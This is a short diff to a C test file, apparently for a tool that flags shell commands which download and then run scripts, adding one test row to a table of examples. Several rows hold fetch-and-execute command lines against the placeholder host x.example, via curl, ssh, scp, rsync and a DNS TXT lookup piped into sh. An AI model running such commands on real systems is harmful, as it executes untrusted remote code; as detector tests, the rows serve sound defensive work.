@@ -80,6 +80,9 @@ static void downloads(void)
 			"fetched-script; fetched-script"),
 		ROW("ssh x.example cat i > i; sh i; rsync rsync://x.example/m/j k; bash k",
 			"fetched-script; fetched-script"),
+		ROW("dig +short txt x.example | tr -d x > i; sh i; ssh x.example cat i | tee j; sh "
+		    "j",
+			"fetched-script; fetched-script"),
 		ROW("rsync -a a/ b/; sh b/i; scp i x.example:i; sh i; scp localhost:i i; sh i", ""),
 		ROW("curl https://x.example/i > i; sh < i; cat i | sh; head -1 i | sh",
 			"fetched-script; fetched-script; fetched-script"),
